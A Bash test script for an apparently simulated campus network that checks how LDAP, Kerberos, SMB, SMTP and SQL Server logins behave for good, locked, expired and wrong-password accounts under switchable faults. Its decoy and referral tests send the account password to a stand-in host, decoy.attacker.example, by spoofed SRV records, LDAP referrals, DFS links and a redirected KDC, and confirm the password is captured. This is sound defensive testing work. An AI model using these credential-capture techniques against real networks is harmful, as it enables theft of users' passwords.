# The proofs with credentials: each account, right and name, asked by clients that are nothing of ours.

# What an account in each bad state meets: LDAP's data code, SMB's status, Samba's KDC, MIT's KDC.
readonly BAD_ACCOUNTS='svc-disabled|533|ACCOUNT_DISABLED|have been revoked|have been revoked
svc-locked|775|ACCOUNT_LOCKED_OUT|have been revoked|have been revoked
svc-expired|532|PASSWORD_EXPIRED|Password expired|Password expired
svc-must-change|773|PASSWORD_MUST_CHANGE|Password expired|Password expired
svc-expired-account|701|ACCOUNT_EXPIRED|have been revoked|has expired
no-such|52e|LOGON_FAILURE|not found in Kerberos|not found in Kerberos'

kerberos_settings() {
  AD=KRB5_CONFIG=$INSIDE/krb5kdc/krb5-ad.conf MIT=KRB5_CONFIG=$INSIDE/krb5kdc/krb5.conf
}

prove_credentials() {
  kerberos_settings
  prove_accounts
  prove_count
  prove_shares
}

# With faults, and what counts logins.
prove_faults() {
  kerberos_settings
  prove_service_name
  prove_mail_login
  prove_sql_login
  prove_referrals
  prove_decoy
}

bind() { # bind ACCOUNT PASSWORD: as a user of dc1, and a search
  echo "LDAPTLS_CACERT=$INSIDE/trust/campus-ca.pem ldapsearch -LLL -o ldif-wrap=no -x \
    -H ldaps://dc1.uni.edu -D $1@uni.edu -w $2 -b dc=uni,dc=edu"
}
ticket() { echo "echo $2 | kinit -c FILE:/run/tickets $1"; }
share() { # share ACCOUNT PASSWORD UNC
  echo "smbclient -U 'UNI\\$1%$2' $3 -c 'ls; get readme.txt -'"
}

prove_accounts() {
  local name data smb ad mit
  while IFS='|' read -r name data smb ad mit; do
    proof "ldaps: $name, data $data" "data $data," appliance sh -c "$(bind "$name" "$ACCOUNT_PASSWORD")"
    proof "smb: $name, $smb" "session setup failed: NT_STATUS_$smb$" \
      appliance sh -c "$(share "$name" "$ACCOUNT_PASSWORD" //myfileshare.uni.edu/packages)"
    proof "kerberos: dc1, $name $ad" "$ad" campus "$AD" sh -c "$(ticket "$name" "$ACCOUNT_PASSWORD")"
    proof "kerberos: dc2, $name $mit" "$mit" campus "$MIT" sh -c "$(ticket "$name" "$ACCOUNT_PASSWORD")"
  done <<<"$BAD_ACCOUNTS"
  for name in "$AD" "$MIT"; do
    proof "kerberos: a password near its end (${name##*/})" 'will expire in 4 days' \
      campus "$name" sh -c "$(ticket svc-expiring "$ACCOUNT_PASSWORD")"
  done
  proof "ldaps: the base is searched, and three references are not the base" \
    '^# refldaps://uni.edu/DC=ForestDnsZones' appliance sh -c "$(bind "$ACCOUNT" "$ACCOUNT_PASSWORD") dn"
  proof "ldaps: an account that never expires" '^msDS-UserPasswordExpiryTimeComputed: 9223372036854775807$' \
    appliance sh -c "$(bind "$ACCOUNT" "$ACCOUNT_PASSWORD") sAMAccountName=$ACCOUNT \
      msDS-UserPasswordExpiryTimeComputed"
}

wrong_passwords() { python3 "$HERE/python/logins.py" "$DIR/log" svc-other | grep -c '^dc1.*WRONG_PASSWORD' || true; }

# A wrong password is one line of dc1's log by each protocol, and one badPwdCount.
prove_count() {
  local before
  # What other tests left.
  domain unlock svc-other
  before=$(wrong_passwords)
  proof "ldaps: a wrong password, data 52e" 'data 52e,' appliance sh -c "$(bind svc-other wrong)"
  proof "smb: a wrong password" 'LOGON_FAILURE' \
    appliance sh -c "$(share svc-other wrong //myfileshare.uni.edu/packages)"
  proof "kerberos: dc1, a wrong password" 'Password incorrect' campus "$AD" sh -c "$(ticket svc-other wrong)"
  proof "logins: three wrong passwords are three" '^3$' campus echo $(($(wrong_passwords) - before))
  proof "ldaps: badPwdCount" '^badPwdCount: 3$' appliance sh -c \
    "$(bind "$ACCOUNT" "$ACCOUNT_PASSWORD") sAMAccountName=svc-other badPwdCount"
  domain unlock svc-other
  proof "kerberos: dc2, a wrong password" 'Password incorrect' campus "$MIT" sh -c "$(ticket svc-other wrong)"
}

service_ticket() { # service_ticket TITLE PATTERN KRB5-CONFIG
  proof "kerberos: $1 (${3##*/})" "$2" campus "$3" sh -c \
    "$(ticket "$ACCOUNT" "$ACCOUNT_PASSWORD") && kvno -c FILE:/run/tickets $SERVICE"
}
holders() { # holders TITLE PATTERN: of the service's name
  proof "ldaps: $1" "$2" appliance sh -c \
    "$(bind "$ACCOUNT" "$ACCOUNT_PASSWORD") servicePrincipalName=$SERVICE servicePrincipalName | grep ^service | xargs"
}

prove_service_name() {
  local n
  holders "one holder of the service's name" "^servicePrincipalName: $SERVICE\$"
  for n in "$AD" "$MIT"; do service_ticket "a ticket for the service" 'kvno = [12]$' "$n"; done
  (switch_on spn-missing)
  holders "spn-missing" '^$'
  for n in "$AD" "$MIT"; do service_ticket "spn-missing" 'not found in Kerberos database' "$n"; done
  (switch_off; switch_on spn-twice)
  holders "spn-twice" "^servicePrincipalName: $SERVICE servicePrincipalName: $SERVICE\$"
  for n in "$AD" "$MIT"; do service_ticket "spn-twice" 'not found in Kerberos database' "$n"; done
  (switch_off; switch_on spn-case)
  holders "spn-case" '^servicePrincipalName: http/AppsAnywhere.uni.edu$'
  service_ticket "spn-case: AD minds no case" 'kvno = 2$' "$AD"
  (switch_off; switch_on srv-spoofed)
  proof "dns: srv-spoofed" 'decoy\.attacker\.example\.$' appliance dig +short SRV _ldap._tcp.dc._msdcs.uni.edu
  (switch_off)
}

shown() { # shown TITLE PATTERN SHARE [HOST]
  proof "smb: $1" "$2" appliance sh -c "$(share "$ACCOUNT" "$ACCOUNT_PASSWORD" "//${4-myfileshare}.uni.edu/$3")"
}

prove_shares() {
  local name
  shown "the share, as the account" '^A package\.$' packages
  shown "an empty share" 'NT_STATUS_OBJECT_NAME_NOT_FOUND' empty
  shown "a share that denies" 'tree connect failed: NT_STATUS_ACCESS_DENIED' denied
  shown "a share whose folder denies" 'NT_STATUS_ACCESS_DENIED listing' unlistable
  shown "a share whose file denies" 'NT_STATUS_ACCESS_DENIED opening' unreadable
  shown "no such share" 'tree connect failed: NT_STATUS_BAD_NETWORK_NAME' no-such
  shown "a server where clients must sign" '^A package\.$' packages signedshare
  # A client that would rather not signs its login only, and there everything.
  for name in "myfileshare 4" "signedshare 14"; do
    proof "smb: messages signed at ${name/ /: }" "^${name#* }\$" appliance sh -c \
      "smbclient -d 10 -m SMB3_00 --option='client signing=off' -U 'UNI\\$ACCOUNT%$ACCOUNT_PASSWORD' \
        //${name% *}.uni.edu/packages -c ls 2>&1 | grep -c 'signed SMB2 message'"
  done
  proof "smb: nobody is taken for a guest" 'LOGON_FAILURE' appliance \
    smbclient -U 'UNI\no-such%' //myfileshare.uni.edu/packages -c ls
  for name in "UNI\\$ACCOUNT" "uni.edu\\$ACCOUNT" "$ACCOUNT@uni.edu"; do
    proof "smb: the account as $name" '^A package\.$' appliance smbclient --use-kerberos=off \
      -W "" -U "$name%$ACCOUNT_PASSWORD" //myfileshare.uni.edu/packages -c 'get readme.txt -'
  done
}

# Where no credential may come: every way there works, for a client that follows it, and is logged.
prove_decoy() {
  local tool=LDAPTLS_CACERT=$INSIDE/trust/campus-ca.pem n
  local account="cn=$ACCOUNT,cn=Users,dc=uni,dc=edu" to="ldaps://decoy.attacker.example"
  proof "decoy: its rootDSE, under its name" 'defaultNamingContext: dc=uni,dc=edu' appliance "$tool" \
    ldapsearch -LLL -x -H "$to" -s base -b "" defaultNamingContext
  proof "decoy: it takes the account's bind" "^dn: $account" appliance "$tool" ldapsearch -LLL -x -H "$to" \
    -D "$account" -w "$ACCOUNT_PASSWORD" -b "$account"
  proof "decoy: and keeps the password" '^1$' campus grep -ac "$ACCOUNT_PASSWORD" "$INSIDE/log/decoy/636-tcp"
  proof "decoy: smb by a DFS link" '^A package\.$' appliance sh -c \
    "$(share "$ACCOUNT" "$ACCOUNT_PASSWORD" //myfileshare.uni.edu/dfs | sed "s/-c '.*/-c 'cd outside; get readme.txt -'/")"
  proof "smb: a DFS link to the share itself" '^A package\.$' appliance sh -c \
    "$(share "$ACCOUNT" "$ACCOUNT_PASSWORD" //myfileshare.uni.edu/dfs | sed "s/-c '.*/-c 'cd inside; get readme.txt -'/")"
  proof "decoy: and notes who came by smb" '^[1-9]' campus grep -aoc NTLMSSP "$INSIDE/log/decoy/445-tcp"
  python3 "$HERE/python/logins.py" "$DIR/log" "$ACCOUNT" >"$DIR/log/logins.txt"
  proof "logins: the decoy's" "^decoy.SMB2.$ACCOUNT" campus cat "$INSIDE/log/logins.txt"
  for n in 1 1400; do
    proof "decoy: kerberos (udp below $n bytes)" 'krbtgt/UNI.EDU@UNI.EDU' appliance sh -c \
      "sed 's|kdc = .*|kdc = decoy.attacker.example|; s|rdns.*|udp_preference_limit = $n|' \
         $INSIDE/krb5kdc/krb5.conf >/run/krb5.conf
       export KRB5_CONFIG=/run/krb5.conf; $(ticket "$ACCOUNT" "$ACCOUNT_PASSWORD") && klist -c FILE:/run/tickets"
  done
  proof "decoy: it notes everyone who came" '^4 198.18.1.10$' campus sh -c \
    "sort -u $INSIDE/log/decoy/connections | cut -d' ' -f2 | uniq -c | xargs"
}

prove_referrals() {
  local tool=LDAPTLS_CACERT=$INSIDE/trust/campus-ca.pem dc to=ldaps://decoy.attacker.example
  proof "ldaps: dc2 takes the account by its name" "^dn: dc=uni,dc=edu" appliance "$tool" ldapsearch -LLL -x \
    -H ldaps://dc2.uni.edu -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -s base -b dc=uni,dc=edu
  proof "ldaps: dc2, a wrong password" '^ldap_bind: Invalid credentials \(49\)' appliance "$tool" ldapsearch -LLL -x \
    -H ldaps://dc2.uni.edu -D "$ACCOUNT@uni.edu" -w wrong -s base -b dc=uni,dc=edu
  proof "ldaps: dc2 refers to the decoy below the base" "^# ref$to/ou=elsewhere" appliance "$tool" ldapsearch \
    -LLL -x -H ldaps://dc2.uni.edu -b dc=uni,dc=edu
  proof "ldaps: dc2 refers whoever asks for another base" "^Referral: $to/dc=attacker" appliance "$tool" ldapsearch \
    -LLL -x -H ldaps://dc2.uni.edu -b dc=attacker,dc=example
  (switch_on ldap-referral)
  for dc in dc1 dc2; do
    proof "ldaps: ldap-referral, $dc" "^Referral: $to/dc=uni" appliance "$tool" ldapsearch -LLL -x \
      -H "ldaps://$dc.uni.edu" -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -b dc=uni,dc=edu
    proof "ldaps: ldap-referral, $dc's rootDSE as ever" "^dnsHostName: $dc" appliance "$tool" ldapsearch -LLL -x \
      -H "ldaps://$dc.uni.edu" -s base -b "" dnsHostName
  done
  (switch_off; switch_on ldap-bind-referral)
  proof "ldaps: ldap-bind-referral" '^ldap_bind: Referral \(10\)' appliance "$tool" ldapsearch -LLL -x \
    -H ldaps://dc1.uni.edu -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -b dc=uni,dc=edu
  (switch_off)
}

swaks() { # swaks TITLE PATTERN PASSWORD [options]
  local title=$1 pattern=$2 password=$3
  shift 3
  proof "smtp: $title" "$pattern" appliance swaks --server smtp.sendgrid.net --port 587 \
    --auth-user apikey --auth-password "$password" --from campus@uni.edu --to it@uni.edu "$@"
}

prove_mail_login() {
  swaks "a wrong password" '535 5\.7\.8' wrong -tls --quit-after AUTH
  swaks "AUTH, and a mail that is thrown away" '250 2\.0\.0 Ok: queued' "$ACCOUNT_PASSWORD" -tls --auth PLAIN
  proof "smtp: the mail is logged" 'to=<it@uni.edu>.*relay=none.*status=sent' campus cat "$INSIDE/log/postfix.out"
  swaks "no AUTH without TLS" 'Host did not advertise authentication' "$ACCOUNT_PASSWORD" --quit-after AUTH
  (switch_on smtp-auth-refused)
  swaks "smtp-auth-refused" '535 5\.7\.8' "$ACCOUNT_PASSWORD" -tls --quit-after AUTH
  (switch_off; switch_on smtp-no-starttls)
  swaks "smtp-no-starttls: AUTH in clear" '^<-  235' "$ACCOUNT_PASSWORD" --quit-after AUTH
  (switch_off; switch_on smtp-auth-in-clear)
  swaks "smtp-auth-in-clear: AUTH before STARTTLS" '^<-  235' "$ACCOUNT_PASSWORD" --quit-after AUTH
  swaks "smtp-auth-in-clear: AUTH after STARTTLS" '^<~  235' "$ACCOUNT_PASSWORD" -tls --quit-after AUTH
  (switch_off; switch_on smtp-no-auth)
  swaks "smtp-no-auth" 'Host did not advertise authentication' "$ACCOUNT_PASSWORD" -tls --quit-after AUTH
  (switch_off)
}

sql() { # sql TITLE PATTERN USER PASSWORD DATABASE QUERY
  proof "tds: $1" "$2" appliance TDSVER=7.4 sh -c \
    "printf '%s\ngo\n' \"$6\" | tsql -o q -t '|' -H MSSQL.uni.edu -p 1433 -U $3 -P $4 -D $5"
}

prove_sql_login() {
  local user number good=$ACCOUNT_PASSWORD before
  before=$(grep -c ^LOGIN7 "$DIR/log/sql.out" || true)
  for user in disabled:18470 locked:18486 expired:18487 must_change:18488; do
    number=${user#*:} user=appsanywhere_${user%:*}
    sql "$user, $number" "Msg $number" "$user" "$good" appsanywhere 'select 1'
  done
  sql "no such database" 'Msg 4060' appsanywhere_user "$good" nowhere 'select 1'
  sql "no such database, and what follows" 'Msg 18456' appsanywhere_user "$good" nowhere 'select 1'
  sql "the server of itself" '^appsanywhere\|16\.0\.1000\.6\|NULL\|MSSQL\|Developer.*\|1433\|TRUE$' \
    appsanywhere_user "$good" appsanywhere "select db_name(), serverproperty('ProductVersion'),
    cast(serverproperty('InstanceName') as nvarchar(128)) as instance, serverproperty('MachineName'),
    serverproperty('Edition') edition, connectionproperty('local_tcp_port'), (select encrypt_option
    from sys.dm_exec_connections where session_id = @@spid)"
  sql "the connections" '^TRUE\|TCP$' appsanywhere_user "$good" appsanywhere \
    'select encrypt_option, c.net_transport from sys.dm_exec_connections c where session_id = @@spid'
  sql "the connections, without the right" 'Msg 300' appsanywhere_plain "$good" appsanywhere \
    'select encrypt_option from sys.dm_exec_connections where session_id = @@spid'
  sql "what it does not know" 'Msg 207' appsanywhere_user "$good" appsanywhere 'select no_such_thing'
  proof "logins: SQL Server's" '^10$' campus echo $(($(grep -c ^LOGIN7 "$DIR/log/sql.out") - before))
  (switch_on sql-no-encryption)
  sql "sql-no-encryption" '^FALSE$' appsanywhere_user "$good" appsanywhere \
    'select encrypt_option from sys.dm_exec_connections where session_id = @@spid'
  (switch_off)
}
